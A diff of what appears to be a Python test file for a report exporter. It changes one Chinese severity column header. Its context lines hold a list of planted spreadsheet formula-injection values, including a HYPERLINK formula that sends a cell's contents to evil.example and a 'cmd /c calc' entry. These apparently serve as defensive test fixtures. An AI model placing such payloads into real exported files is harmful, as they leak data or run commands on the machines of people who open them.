@@ -43,7 +43,7 @@ from commplan_test import Yaml12Loader, fail, report
 
 BOM = b"\xef\xbb\xbf"
 EXAMPLES = ["datacentre-assessment.yaml", "penetration-test.json", "software-delivery.zh.yaml"]
-HEADERS = {"en": ["ID", "Title", "Severity", "Status"], "zh": ["编号", "问题", "风险等级", "状态"]}
+HEADERS = {"en": ["ID", "Title", "Severity", "Status"], "zh": ["编号", "问题", "严重程度", "状态"]}
 CARD = "4111 1111 1111 1111"
 PLANTED = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "-2+3", "@SUM(1)",
            "\tcmd /c calc", "+1"]
